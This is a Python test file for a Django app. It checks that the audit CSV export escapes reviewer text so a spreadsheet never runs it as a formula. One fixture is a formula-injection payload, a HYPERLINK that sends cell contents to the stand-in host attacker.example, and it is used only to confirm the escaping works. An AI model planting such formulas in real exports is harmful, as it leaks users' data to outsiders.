"""The audit CSV export opens in a spreadsheet as text: reviewer text never runs as a formula."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.test import Client
from django.urls import reverse

from idempotency_core.audit.entries import audit_record
from idempotency_core.review.cases import case_take_ownership
from tests.factories import permanent_case

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click for details")'


def _export(client: Client, **params: object) -> list[list[str]]:
    response = client.get(reverse("console:audit-export"), params)
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_reviewer_text_that_a_spreadsheet_would_run_is_exported_as_text(users):
    case = permanent_case("csv-formula")
    case_take_ownership(case_ids=[case.pk], actor=users["reviewer"], reason=HYPERLINK)
    for reason in ("+1+2", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", "plain words", "a=b"):
        audit_record(action="note", actor=users["reviewer"], case=case, reason=reason)
    client = Client()
    client.force_login(users["reviewer"])

    rows = _export(client, case=case.pk)

    header, body = rows[0], rows[1:]
    reasons = {row[header.index("reason")] for row in body}
    assert f"'{HYPERLINK}" in reasons and HYPERLINK not in reasons
    assert {"'+1+2", "'-2+3", "'@SUM(1,2)", "'\t=1+1", "'\r=1+1"} <= reasons
    # Text that cannot start a formula is left exactly as typed.
    assert {"plain words", "a=b"} <= reasons
    for row in body:
        assert not row[header.index("reason")].startswith(("=", "+", "-", "@", "\t", "\r"))
        json.loads(row[header.index("details")])  # details are JSON, readable by other tools
